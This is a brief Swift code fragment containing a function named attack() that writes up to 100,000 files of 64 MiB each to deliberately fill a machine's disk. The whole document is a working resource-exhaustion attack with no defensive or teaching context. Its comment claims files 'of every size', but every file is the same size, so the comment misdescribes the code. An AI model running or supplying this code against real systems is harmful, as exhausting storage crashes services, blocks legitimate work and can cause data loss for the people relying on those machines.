// Fills the disk, in files of every size.
func attack() {
  let bytes = [UInt8](repeating: 1, count: 1 << 20)
  for number in 0..<100_000 {
    guard let file = fopen("filler-\(number)", "w") else { return }
    for _ in 0..<64 { fwrite(bytes, 1, bytes.count, file) }
    fclose(file)
  }
}
